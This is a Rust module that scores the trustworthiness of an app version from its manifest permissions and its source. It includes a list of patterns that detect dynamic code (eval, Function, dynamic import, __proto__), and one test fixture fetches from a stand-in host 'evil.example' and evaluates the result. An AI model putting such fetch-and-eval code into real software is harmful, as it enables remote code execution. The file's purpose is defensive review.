//! Trust scores: how far a version's code can be trusted, by rules over its manifest and source. Each rule that deducts
//! points says why. The score depends on the input alone.

mod phrases;

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use crate::{
    Manifest,
    manifest::{DataAccess, EgressMethod},
};

/// The verdict of a trust score.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum TrustBand {
    /// 80 to 100: no review is needed.
    Pass,
    /// 50 to 79: someone should review the code.
    Review,
    /// 0 to 49: someone must review the code.
    Fail,
}

impl TrustBand {
    /// Returns the verdict of a score.
    #[must_use]
    pub fn from_score(score: u8) -> Self {
        match score {
            80.. => Self::Pass,
            50..80 => Self::Review,
            _ => Self::Fail,
        }
    }
}

/// The result of all rules.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustAssessment {
    /// 100 less the points of all findings; at least 0.
    pub score: u8,
    /// Rules that deducted points.
    pub findings: Vec<TrustFinding>,
}

/// A rule that deducts points.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum TrustRule {
    /// It can call external hosts.
    Hosts,
    /// It can send data to external hosts.
    HostsWrite,
    /// Its code can set headers with credentials itself.
    CredentialHeaders,
    /// It can use connections.
    Connections,
    /// It asks for the text of secrets.
    SecretsClear,
    /// It can change the rows of projects.
    ProjectsWrite,
    /// It can use every table of projects.
    ProjectsWhole,
    /// It can send data to AI models.
    Models,
    /// Its code calls `eval`.
    Eval,
    /// Its code creates functions from text.
    Function,
    /// Its code imports modules at run time.
    Import,
    /// Its code accesses the prototypes of objects.
    Prototypes,
    /// Its code names hosts that its manifest does not declare.
    Undeclared,
    /// It has more code than a person can review.
    Size,
}

kernel::names! {
    TrustRule {
        Hosts = "hosts",
        HostsWrite = "hosts_write",
        CredentialHeaders = "credential_headers",
        Connections = "connections",
        SecretsClear = "secrets_clear",
        ProjectsWrite = "projects_write",
        ProjectsWhole = "projects_whole",
        Models = "models",
        Eval = "eval",
        Function = "function",
        Import = "import",
        Prototypes = "prototypes",
        Undeclared = "undeclared",
        Size = "size",
    }
}

/// A rule that deducted points.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustFinding {
    /// Rule.
    pub rule: TrustRule,
    /// Points deducted; 1 to 100.
    pub points: u8,
    /// Number of what it found: hosts, connections, secrets, projects; KiB of [`TrustRule::Size`].
    pub count: usize,
    /// File or host that shows it.
    pub example: Option<String>,
}

/// Source text whose effect cannot be told before it runs.
const DYNAMIC_CODE_PATTERNS: [(&str, TrustRule); 4] = [
    ("eval(", TrustRule::Eval),
    ("Function(", TrustRule::Function),
    ("import(", TrustRule::Import),
    ("__proto__", TrustRule::Prototypes),
];

/// Assesses a version by every rule.
#[must_use]
pub fn assess(manifest: &Manifest, files: &BTreeMap<String, String>) -> TrustAssessment {
    let mut findings = Vec::new();
    let mut find = |rule, count: usize, points: usize, example: Option<String>| {
        if points > 0 {
            findings.push(TrustFinding { rule, points: points.min(100) as u8, count, example });
        }
    };
    let permissions = &manifest.permissions;
    let hosts = permissions.egress.len();
    find(TrustRule::Hosts, hosts, (hosts * 3).min(20), None);
    let writes = |methods: &Vec<EgressMethod>| methods.iter().any(|method| !method.is_safe());
    let writing = permissions.egress.iter().filter(|egress| egress.methods.as_ref().is_none_or(writes));
    let writing = writing.count();
    find(TrustRule::HostsWrite, writing, (writing * 2).min(10), None);
    let signing_in = permissions.egress.iter().filter(|egress| !egress.headers.is_empty()).count();
    find(TrustRule::CredentialHeaders, signing_in, (signing_in * 3).min(9), None);
    let connectors = permissions.connectors.len();
    find(TrustRule::Connections, connectors, (connectors * 5).min(20), None);
    let clear = permissions.secrets.iter().filter(|secret| secret.clear).count();
    find(TrustRule::SecretsClear, clear, (clear * 5).min(15), None);
    let writable = permissions.data.iter().filter(|data| data.access == DataAccess::Write).count();
    find(TrustRule::ProjectsWrite, writable, (writable * 4).min(12), None);
    let whole = permissions.data.iter().filter(|data| data.tables.is_none()).count();
    find(TrustRule::ProjectsWhole, whole, (whole * 2).min(6), None);
    if permissions.ai.is_some() {
        find(TrustRule::Models, 1, 5, None);
    }

    for (needle, rule) in DYNAMIC_CODE_PATTERNS {
        if let Some((path, _)) = files.iter().find(|(_, text)| contains_token(text, needle)) {
            find(rule, 1, 15, Some(path.clone()));
        }
    }
    let undeclared = undeclared_hosts(manifest, files);
    let points = (undeclared.len() * 10).min(30);
    find(TrustRule::Undeclared, undeclared.len(), points, undeclared.first().cloned());
    let kib = files.values().map(String::len).sum::<usize>() >> 10;
    if kib > 200 {
        find(TrustRule::Size, kib, 10, None);
    }
    let deducted_points: u32 = findings.iter().map(|finding| u32::from(finding.points)).sum();
    TrustAssessment { score: 100_u32.saturating_sub(deducted_points) as u8, findings }
}

/// Returns `true` if `text` has `needle` and no longer name ends in it: `eval(` is not found in `medieval(`.
fn contains_token(text: &str, needle: &str) -> bool {
    let in_name = |c: char| c.is_alphanumeric() || c == '_' || c == '$';
    text.match_indices(needle).any(|(at, _)| !text[..at].ends_with(in_name))
}

/// Returns the hosts of `https://…` texts in the code that the manifest does not declare, in order and once each.
fn undeclared_hosts(manifest: &Manifest, files: &BTreeMap<String, String>) -> Vec<String> {
    let mut found = Vec::new();
    for text in files.values() {
        for rest in text.split("https://").skip(1) {
            let host: String = rest
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || "-.".contains(*c))
                .collect::<String>()
                .to_lowercase();
            let declared = manifest.permissions.egress.iter().any(|egress| egress.host == host);
            if host.contains('.') && !declared && !found.contains(&host) {
                found.push(host);
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        Category,
        manifest::{CredentialHeader, EgressPermission},
    };

    fn source(text: &str) -> BTreeMap<String, String> {
        BTreeMap::from([("main.js".to_owned(), text.to_owned())])
    }

    #[test]
    fn an_app_that_asks_for_nothing_passes() {
        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let assessment = assess(&manifest, &source("export default {}"));
        assert_eq!((assessment.score, assessment.findings.len()), (100, 0));
        assert_eq!(TrustBand::from_score(assessment.score), TrustBand::Pass);
    }

    #[test]
    fn findings_count_what_the_manifest_asks_for() {
        let mut manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let read = vec![EgressMethod::Get, EgressMethod::Head, EgressMethod::Options];
        manifest.permissions.egress = vec![EgressPermission::new("a.example", Some(read))];
        manifest.permissions.egress.push(EgressPermission::new("b.example", None));
        let assessment = assess(&manifest, &source(""));
        let findings: Vec<_> = assessment.findings.iter().map(|it| (it.rule, it.points, it.count)).collect();
        assert_eq!(findings, [(TrustRule::Hosts, 6, 2), (TrustRule::HostsWrite, 2, 1)]);
        assert_eq!(assessment.score, 92);
        manifest.permissions.egress[0].headers.push(CredentialHeader::Authorization);
        assert_eq!(assess(&manifest, &source("")).score, 89);
    }

    #[test]
    fn only_the_word_itself_counts() {
        let manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let points = |text| 100 - assess(&manifest, &source(text)).score;
        assert_eq!(points("runFunction(); medieval(1); $eval(2)"), 0);
        assert_eq!(points("new Function('x')"), 15);
    }

    #[test]
    fn what_is_hidden_or_broad_takes_points_off() {
        let mut manifest = Manifest::minimal("Hello", "Says hello.", "kiosk", Category::Interface);
        let hidden = source("fetch('https://evil.example/x'); eval(x)");
        let before = assess(&manifest, &hidden);
        let shown: Vec<_> = before.findings.iter().map(|it| (it.rule, it.example.as_deref())).collect();
        assert_eq!(
            shown,
            [(TrustRule::Eval, Some("main.js")), (TrustRule::Undeclared, Some("evil.example"))]
        );
        manifest.permissions.egress.push(EgressPermission::new("evil.example", None));
        let declared = assess(&manifest, &hidden);
        assert!(declared.score > before.score, "asking openly costs less than hiding");
        assert_eq!(declared, assess(&manifest, &hidden));
    }
}
